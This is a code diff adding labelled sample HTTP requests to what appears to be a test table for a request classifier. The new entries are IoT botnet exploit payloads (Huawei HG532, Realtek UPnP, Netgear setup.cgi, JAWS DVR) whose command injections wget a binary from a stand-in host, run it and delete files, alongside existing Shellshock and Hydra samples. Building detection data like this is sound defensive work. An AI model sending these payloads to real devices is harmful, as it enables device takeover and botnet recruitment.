@@ -71,7 +71,17 @@ def names(request: bytes) -> str | None:
     # THC Hydra's http-get module guessing a camera's password
     (b"GET / HTTP/1.1\r\nHost: 192.168.28.27\r\nUser-Agent: Mozilla/4.0 (Hydra)\r\n"
      b"Authorization: Basic cm9vdDp4Yw==\r\n\r\n", "password guessing tool user agent"),
-    # IoT botnets' exploits, from their public proofs of concept
+    # IoT botnets' exploits, from their public proofs of concept: Huawei HG532 (CVE-2017-17215), Realtek SDK
+    # miniigd (CVE-2014-8361), Netgear setup.cgi, JAWS DVRs, as Mirai's and Satori's variants send them
+    (b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 430\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope><s:Body>"
+     b"<u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/m -r /m)</NewStatusURL></u:Upgrade></s:Body>",
+     "command injection (request body)"),
+    (b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"
+     b"\r\n\r\n<NewInternalClient>`cd /var; wget http://1.2.3.4/x; chmod +x x; ./x`</NewInternalClient>",
+     "command injection (request body)"),
+    (b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4/x+-O+/tmp/x;sh+/tmp/x"
+     b"&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n", "command injection"),
+    (b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\n\r\n", "command injection"),
     (b"GET /cgi-bin/status HTTP/1.1\r\nHost: cam\r\nUser-Agent: () { :; }; /bin/bash -c 'cd /tmp; wget x'\r\n\r\n",
      "Shellshock (bash function definition in an HTTP header, CVE-2014-6271)"),
     (b"GET /cgi-bin/a HTTP/1.1\r\nReferer: () { ignored;}; echo; /bin/id\r\n\r\n",
